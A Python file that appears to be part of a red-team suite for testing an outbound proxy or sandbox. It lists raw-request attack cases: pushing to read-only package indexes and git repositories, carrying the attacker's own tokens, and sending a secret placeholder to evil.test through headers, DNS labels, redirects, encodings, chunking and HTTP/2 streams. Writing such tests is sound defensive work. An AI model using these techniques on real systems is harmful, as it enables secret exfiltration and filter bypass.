"""What allowed services are misused for: publishing, accounts of the attacker's own, placeholders where their secret does not belong."""

from hatchway.redteam.attacks.attack import INDEX, SOURCE, Attack, table

_PARTLY = (INDEX, SOURCE)
_OWN = {"bearer": "Authorization: Bearer {}", "basic": "Authorization: Basic {}", "odd-scheme": "Authorization: {}", "cookie": "Cookie: session={}", "api-key": "X-Api-Key: {}",
        "private-token": "PRIVATE-TOKEN: {}", "proxy": "Proxy-Authorization: Basic {}", "twice": "Authorization: Bearer a\\r\\nAuthorization: Bearer {}", "upper": "AUTHORIZATION: Bearer {}"}  # fmt: skip
_PARAMETERS = (
    "key",
    "token",
    "auth",
    "jwt",
    "api_key",
    "apiKey",
    "access%5Ftoken",
    "t%256fken",
    "token[]",
    "session_id",
    "x;key",
)
_HANDSHAKE = "Connection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n"
_OFFERED = {
    "bearer": "bearer, {}",
    "in-a-name": "base64url.bearer.authorization.k8s.io.{}",
    "api-key": "chat, insecure-api-key.{}",
    "underscore": "chat\\r\\nSec_WebSocket_Protocol: token.{}",
}
_PLACES = {
    "other-path": "b'GET /upload/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P",
    "query": "b'GET /v1/' + B + b'?t=' + P + b' HTTP/1.1\\r\\nHost: api.test'",
    "path": "b'GET /v1/' + P + b'/' + B + b' HTTP/1.1\\r\\nHost: api.test'",
    "other-field": "b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nX-Note: ' + P",
    "cookie": "b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nCookie: a=' + P + B",
    "user-agent": "b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nUser-Agent: ' + P",
}
_PLACEHOLDER = "P = placeholder(); "

ATTACKS: tuple[Attack, ...] = (
    *table("A01", "Publishing to an index that is for reading", {
        "upload": "site('index.test', b'POST /legacy/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Length: 15\\r\\n\\r\\n' + B)",
        "put": "site('index.test', b'PUT /packages/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nContent-Length: 15\\r\\n\\r\\n' + B)",
        "chunked": "site('index.test', b'POST /simple/ HTTP/1.1\\r\\nHost: index.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nf\\r\\n' + B + b'\\r\\n0\\r\\n\\r\\n')",
        "delete": "site('index.test', b'DELETE /packages/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\n\\r\\n')",
        "upload-host": "site('other.test', b'POST /legacy/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\nContent-Length: 0\\r\\n\\r\\n')",
    }),
    *table("A02", "An account of the attacker's own", {
        name: ("site('api.test', b'GET /v2/ HTTP/1.1\\r\\nHost: api.test\\r\\n" + fields + "\\r\\n\\r\\n')").replace("{}", "' + B + b'").replace("/v2/", "/v1/") for name, fields in _OWN.items()
    }),
    *table("A02", "An account of the attacker's own, in a parameter", {
        f"parameter-{site.partition('.')[0]}-{name.replace('%', '').replace('[]', '-list').replace(';', '-').replace('_', '-').lower()}": f"site('{site}', b'GET {path}?x=1&{name}=' + B + b' HTTP/1.1\\r\\nHost: {site}\\r\\n\\r\\n')"
        for site, path in (("index.test", "/simple/"), ("api.test", "/v1/")) for name in _PARAMETERS
    }, _PARTLY),
    *table("A02", "An account of the attacker's own, in what a WebSocket offers", {
        f"protocol-{name}": "site('files.test', b'GET /chat HTTP/1.1\\r\\nHost: files.test\\r\\n" + _HANDSHAKE + ("Sec-WebSocket-Protocol: " + offered).replace("{}", "' + B + b'") + "\\r\\n\\r\\n')" for name, offered in _OFFERED.items()
    }, _PARTLY),
    *table("A03", "Another customer's place on an allowed site", {
        "path": "site('api.test', b'GET /tenants/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')",
        "below-the-name": "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: bucket.api.test\\r\\n\\r\\n', sni='bucket.api.test')",
        "name": "tls(addr('bucket.api.test'), b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: bucket.api.test\\r\\n\\r\\n', 'bucket.api.test')",
    }),
    *table("A06", "A service that fetches what it is told", {"hooks": "site('api.test', b'POST /hooks HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 15\\r\\n\\r\\n' + B)"}),
    *table("A08", "Services that all machines talk to", {
        "ocsp": "tcp(addr('ocsp.test'), 80, b'GET /' + B + b' HTTP/1.1\\r\\nHost: ocsp.test\\r\\n\\r\\n')",
        "time": "udp(facts['zone']['evil.test'], 123, B * 3)",
        "telemetry": "tls(addr('telemetry.test'), b'POST /' + B + b' HTTP/1.1\\r\\nHost: telemetry.test\\r\\nContent-Length: 0\\r\\n\\r\\n', 'telemetry.test')",
    }),
    *table("A10", "Shells", {
        "port-22": "tcp(addr('index.test'), 22, b'SSH-2.0-' + B + b'\\r\\n')",
        "git-ssh": "tcp(addr('git.test'), 22, b'SSH-2.0-' + B + b'\\r\\n')",
        "git-port": "tcp(addr('git.test'), 9090, b'0032git-upload-pack /' + B + b'\\0host=git.test\\0')",
    }),
    *table("A01", "Pushing to a repository that is for fetching", {
        "push-refs": "site('git.test', b'GET /' + B + b'.git/info/refs?service=git-receive-pack HTTP/1.1\\r\\nHost: git.test\\r\\n\\r\\n')",
        "push-pack": "site('git.test', b'POST /team/repo.git/git-receive-pack HTTP/1.1\\r\\nHost: git.test\\r\\nContent-Type: application/x-git-receive-pack-request\\r\\nContent-Length: 15\\r\\n\\r\\n' + B)",
        "push-in-fetch": "site('git.test', b'POST /team/repo.git/git-upload-pack?service=git-receive-pack&x=' + B + b' HTTP/1.1\\r\\nHost: git.test\\r\\nContent-Type: application/x-git-receive-pack-request\\r\\nContent-Length: 0\\r\\n\\r\\n')",
        "other-repository": "site('git.test', b'GET /other/' + B + b'.git/info/refs?service=git-upload-pack HTTP/1.1\\r\\nHost: git.test\\r\\n\\r\\n')",
        "plain-file": "site('git.test', b'GET /team/repo.git/' + B + b' HTTP/1.1\\r\\nHost: git.test\\r\\n\\r\\n')",
        "lfs": "site('git.test', b'POST /team/repo.git/info/lfs/objects/batch?x=' + B + b' HTTP/1.1\\r\\nHost: git.test\\r\\nContent-Length: 0\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("C01", "A placeholder for another site", {
        "index": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "evil": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', sni='evil.test')",
        "clear": _PLACEHOLDER + "tcp(addr('clear.test'), 80, b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: clear.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "address": _PLACEHOLDER + "tls('203.0.113.66', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', 'api.test')",
        "question": _PLACEHOLDER + "ask(query(labels_of(M + '.' + P.decode().lower()[:60].replace('_', '-') + '.evil.test')))",
    }, _PARTLY),
    *table("C02", "A placeholder in another place", {
        name: f"{_PLACEHOLDER}site('api.test', {text} + b'\\r\\n\\r\\n')" for name, text in _PLACES.items()
    } | {"body": _PLACEHOLDER + "d = P + B; site('api.test', b'POST /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d) + d)"}, _PARTLY),
    *table("C03", "A placeholder in another coding, or in pieces", {
        "basic": _PLACEHOLDER + "import base64\nsite('api.test', b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nX-Note: ' + B + base64.b64encode(b'x:' + P) + b'\\r\\nX-Api-Key: ' + B + base64.b64encode(P) + b'\\r\\n\\r\\n')",
        "percent-in-query": _PLACEHOLDER + "site('api.test', b'GET /v1/' + B + b'?t=' + b''.join(b'%%%02x' % o for o in P) + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')",
        "percent-in-path": _PLACEHOLDER + "site('api.test', b'GET /v1/' + b''.join(b'%%%02X' % o for o in P) + b'/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')",
        "chunks": _PLACEHOLDER + "site('api.test', b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n' + b''.join(b'1\\r\\n' + P[n:n + 1] + b'\\r\\n' for n in range(len(P))) + b'f\\r\\n' + B + b'\\r\\n0\\r\\n\\r\\n')",
        "records": _PLACEHOLDER + "d = P + B; site('api.test', [b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(d), P[:9], P[9:], B])",
        "trailer": _PLACEHOLDER + "site('api.test', b'POST /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\nX-T: ' + P + B + b'\\r\\n\\r\\n')",
        "h2-data": _PLACEHOLDER + "h2(h2_request(1, *get('/v1/', 'api.test', 'POST'), end=False), h2_frame(0, 0, 1, P[:7]), h2_frame(0, 0, 1, P[7:]), h2_frame(0, 1, 1, B), name='api.test')",
    }, _PARTLY),
    *table("C05", "A placeholder that goes along with a redirect", {
        "evil": _PLACEHOLDER + "site('api.test', b'GET /v1/simple/redirect/' + B[::-1] + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n'); tls(addr('evil.test'), b'GET /' + B + b' HTTP/1.1\\r\\nHost: evil.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', 'evil.test')",
        "index": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: index.test\\r\\nReferer: https://api.test/\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("C06", "A placeholder where the name says one site and the address another", {
        "site-of-the-index": _PLACEHOLDER + "site('index.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', sni='api.test')",
        "host-alone": _PLACEHOLDER + "site('index.test', b'GET /simple/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "other-host-at-the-api": _PLACEHOLDER + "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: other.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "stream": _PLACEHOLDER + "h2(h2_request(1, *get('/v1/', 'api.test')), h2_request(3, *get('/v1/' + M, 'other.test'), ('authorization', 'Bearer ' + P.decode())), name='api.test')",
    }, _PARTLY),
    *table("C07", "A placeholder in clear", {
        "port-80": _PLACEHOLDER + "tcp(addr('api.test'), 80, b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "port-443": _PLACEHOLDER + "tcp(addr('api.test'), 443, b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("C16", "A placeholder for a proxy", {
        "proxy-authorization": _PLACEHOLDER + "site('api.test', b'GET /v1/ HTTP/1.1\\r\\nHost: api.test\\r\\nProxy-Authorization: Bearer ' + P + B + b'\\r\\n\\r\\n')",
    }, _PARTLY),
    *table("C17", "A placeholder for what its rule is not for", {
        method.lower(): _PLACEHOLDER + f"site('api.test', b'{method} /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nContent-Length: 0\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')" for method in ("DELETE", "PUT", "PATCH")
    }, _PARTLY),
    *table("G20", "The second way out, that of requests with a credential", {
        f"{name}": _PLACEHOLDER + f"tls(addr('{host}'), b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n', '{host}')"
        for name, host in (("to-the-loopback", "api-loopback.test"), ("to-metadata", "api-metadata.test"), ("to-this-host", "api-here.test"))
    }, _PARTLY),
    *table("C10", "Guessed placeholders", {
        "made-up": "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer hwp_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\\r\\n\\r\\n')",
        "one-octet-changed": _PLACEHOLDER + "P = P[:-1] + (b'A' if P[-1:] != b'A' else b'B'); site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer ' + P + b'\\r\\n\\r\\n')",
        "name-of-the-secret": "site('api.test', b'GET /v1/' + B + b' HTTP/1.1\\r\\nHost: api.test\\r\\nAuthorization: Bearer store:redteam\\r\\n\\r\\n')",
    }, (SOURCE,)),
)  # fmt: skip
